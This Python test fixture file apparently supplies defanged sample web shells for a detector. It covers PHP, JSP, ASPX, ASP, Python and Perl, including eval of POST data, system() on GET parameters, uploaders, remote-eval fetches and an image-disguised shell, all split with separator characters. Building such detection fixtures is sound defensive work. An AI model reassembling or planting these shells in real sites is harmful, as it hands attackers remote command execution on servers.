"""Text fixtures: web shells."""

from __future__ import annotations

from tests.base.inert import inert

FIXTURES: dict[str, bytes] = {
    "webshell_php_eval_request": inert("<?php @ev·al($_PO·ST['pa·ss']); ?>"),
    "webshell_php_command_request": inert(
        r"""<?php if (is·set($_GET['c'])) { ec·ho "<pre>"; sys·tem($_GET['c']); } ?>
"""
    ),
    "webshell_php_command_variable": inert("<?php $c = $_GE·T['c']; echo she·ll_exec($·c); ?>"),
    "webshell_php_backtick_request": inert("<?php ec·ho `$_GET[c]`; ?>"),
    "webshell_php_request_function": inert("<?php $_GET['a'](·$_PO·ST['b']); ?>"),
    "webshell_php_nested_decoders": inert("<?php ev·al(gzin·flate(bas·e64_dec·ode('«96»'))); ?>"),
    "webshell_php_preg_replace_eval": inert("<?php pr·eg_rep·lace('/.*/e', $_PO·ST['x'], ''); ?>"),
    "webshell_php_callback_request": inert("<?php @ar·ray_map($_PO·ST['f'], ar·ray($_PO·ST['v'])); ?>"),
    "webshell_php_writes_request": inert(
        r"""<?php fi·le_put_cont·ents($_GET['fi·le'], bas·e64_dec·ode($_PO·ST['bo·dy'])); ?>
"""
    ),
    "webshell_php_uploader": inert(
        r"""<?php ec·ho '<fo·rm met·hod="po·st" enc·type="mult·ipart/fo·rm-da·ta"><in·put ty·pe="fi·le" na·me="f·
"></fo·rm>';
if ($_FI·LES) { mo·ve_uplo·aded_fi·le($_FI·LES['f']['tmp_na·me'], $_FI·LES['f']['na·me']); } ?>
"""
    ),
    "webshell_php_remote_eval": inert(
        r"""<?php ev·al('?>' . fi·le_get_cont·ents('ht·tp://fi·les.exa·mple.inv·alid/a.txt')); ?>
"""
    ),
    "webshell_php_character_building": inert(
        r"""<?php $f = chr(101).chr(120).chr(97).chr(109).chr(112).chr(108).chr(101).chr(32).chr(111).chr(110).c·
hr(108).chr(121).'';
@ev·al($f); ?>
"""
    ),
    "webshell_php_in_image": inert("GIF·89a<?php sys·tem($_GET['c']); ?>"),
    "webshell_php_encrypted_input": inert(
        r"""<?php ses·sion_st·art(); $k = "00·00"; $_SES·SION['k'] = $k;
$po·st = fi·le_get_cont·ents("php://in·put");
$po·st = ope·nssl_dec·rypt($po·st, "AES·128", $k);
ev·al($po·st); ?>
"""
    ),
    "webshell_php_manager": inert(
        r"""<?php $ti·tle = "File·sMan"; if (func·tion_exi·sts('sh·ell_ex·ec')) { $o = sh·ell_ex·ec($q); } els·e·
if (1) { pass·thru($q); }
ec·ho php_un·ame(); ?>
"""
    ),
    "webshell_htaccess_php_image": inert("Add·Type appli·cation/x-ht·tpd-php .jpg"),
    "webshell_jsp_exec_request": inert(
        r"""<% Run·time.getRu·ntime().ex·ec(req·uest.getPar·ameter("c")); %>
"""
    ),
    "webshell_jsp_command_page": inert(
        r"""<%@ pa·ge imp·ort="ja·va.io.*" %><% Str·ing c = req·uest.getPar·ameter("c");
Pro·cess p = Run·time.getRu·ntime().ex·ec(c); Input·Stream in = p.getInpu·tStream();
out.pri·ntln(in.re·ad()); %>
"""
    ),
    "webshell_jsp_defines_class": inert(
        r"""<%@ pa·ge imp·ort="ja·va.ut·il.*,ja·vax.cry·pto.*" %><%! cl·ass U ext·ends Class·Loader {
pub·lic Cl·ass g(by·te[] b) { ret·urn su·per.defin·eClass(b, 0, b.len·gth); } } %>
<% Str·ing bo·dy = req·uest.getR·eader().read·Line(); %>
"""
    ),
    "webshell_aspx_eval_request": inert(
        r"""<%@ Pa·ge Lang·uage="Jsc·ript"%><%ev·al(Req·uest.It·em["pa·ss"],"uns·afe");%>
"""
    ),
    "webshell_aspx_process": inert(
        r"""<%@ Pa·ge Lang·uage="C#" %><% var s = new ProcessS·tartInfo("cmd.exe");
s.Argu·ments = "/c " + Req·uest.Query·String["c"]; %>
"""
    ),
    "webshell_aspx_loads_assembly": inert(
        r"""<%@ Pa·ge Lang·uage="C#" %><% Sys·tem.Refle·ction.Asse·mbly.Lo·ad(Req·uest.Binar·yRead(Req·uest.Cont·
en·tLength))
.CreateI·nstance("U"); %>
"""
    ),
    "webshell_asp_wscript_shell": inert(
        r"""<% Set s = Ser·ver.Create·Object("WSc·ript.Sh·ell")
Set e = s.Ex·ec("cmd.exe /c " & Req·uest("c"))
Resp·onse.Wr·ite e.Std·Out.Rea·dAll : q = Req·uest.Fo·rm("c") %>
"""
    ),
    "webshell_python_request": inert(
        r"""fr·om fl·ask imp·ort Fl·ask, req·uest
imp·ort os
def pa·ge():
    ret·urn os.po·pen(req·uest.ar·gs.get("c")).re·ad()
"""
    ),
    "webshell_python_cgi": inert(
        r"""imp·ort cgi, os
fo·rm = cgi.FieldS·torage()
pr·int(os.po·pen(fo·rm.getv·alue("c")).re·ad())
"""
    ),
    "webshell_perl_cgi": inert(
        r"""#!/usr/bin/pe·rl
use CGI; my $q = CGI->new; sys·tem($q->pa·ram('c'));
"""
    ),
}
